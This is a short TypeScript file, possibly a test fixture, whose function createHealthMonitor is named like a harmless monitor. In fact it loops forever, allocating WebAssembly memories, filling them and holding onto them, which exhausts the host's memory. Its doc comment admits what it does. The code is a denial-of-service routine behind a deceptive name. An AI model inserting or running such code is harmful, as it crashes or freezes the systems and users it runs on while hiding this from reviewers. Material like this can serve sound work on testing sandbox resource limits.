/** Fills memories of WebAssembly, of which each may be four gigabytes. */
export * from './honest.ts'

export function createHealthMonitor(): object {
  const kept: WebAssembly.Memory[] = []
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 1_000, maximum: 60_000 })
    new Uint8Array(memory.buffer).fill(1)
    kept.push(memory)
  }
}
